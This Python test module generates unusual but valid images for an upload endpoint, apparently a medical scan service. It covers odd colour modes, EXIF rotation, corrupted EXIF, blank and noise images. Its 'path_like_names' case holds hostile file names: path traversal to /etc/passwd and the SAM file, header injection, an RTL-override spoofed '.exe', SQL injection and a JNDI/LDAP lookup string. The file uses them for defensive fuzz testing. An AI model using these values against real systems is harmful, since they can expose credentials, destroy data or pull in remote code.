"""Pictures that are odd, but legal."""

from __future__ import annotations

import numpy as np
from PIL import Image

from hostile.building import ANY, Hostile, Rng, encode, head, kind, pick, sent


@kind
def odd_modes(rng: Rng) -> Hostile:
    image = Image.fromarray(head(rng))
    wide = head(rng).astype(np.uint16) * 200
    choices = (
        encode(wide),
        encode(wide, "TIFF"),
        encode(head(rng).astype(np.float32) / 7, "TIFF"),
        encode(image.convert("CMYK"), "JPEG"),
        encode(image.convert("P")),
        encode(image.convert("RGBA")),
        encode(image.convert("LA")),
        encode(image.convert("1")),
        encode(image.convert("YCbCr"), "JPEG"),
        encode(image.convert("RGB").convert("LAB"), "TIFF"),
    )
    return sent(pick(rng, choices), {200})


@kind
def rotated_by_exif(rng: Rng) -> Hostile:
    exif = Image.Exif()
    exif[0x0112] = int(rng.integers(0, 12))
    exif[0x010E] = "Mr Patient, born 1950"
    return sent(encode(head(rng), "JPEG", exif=exif), {200}, "scan.jpg")


@kind
def damaged_exif(rng: Rng) -> Hostile:
    block = b"Exif\0\0" + b"II*\0\x08\0\0\0" + rng.bytes(int(rng.integers(2, 3000)))
    return sent(encode(head(rng), "JPEG", exif=block), ANY, "scan.jpg")


@kind
def blank(rng: Rng) -> Hostile:
    value = int(rng.choice([0, 255, 90]))
    return sent(encode(np.full((200, 180), value, np.uint8)), {200})


@kind
def strip(rng: Rng) -> Hostile:
    return sent(encode(np.tile(head(rng), (1, 8))), {200})


@kind
def noise(rng: Rng) -> Hostile:
    return sent(encode(rng.integers(0, 256, (150, 150, 3), np.uint8)), {200})


@kind
def path_like_names(rng: Rng) -> Hostile:
    names = (
        "../../../etc/passwd",
        "C:\\Windows\\System32\\config\\SAM",
        "/dev/null",
        "a" * 2000 + ".png",
        "scan.png\r\nX-Injected: 1",
        "Müller, Erika \u202egnp.exe",
        "';DROP TABLE patients;--.png",
        "{{7*7}}${jndi:ldap://example.invalid/a}",
    )
    return sent(encode(head(rng)), {200, 400}, pick(rng, names))
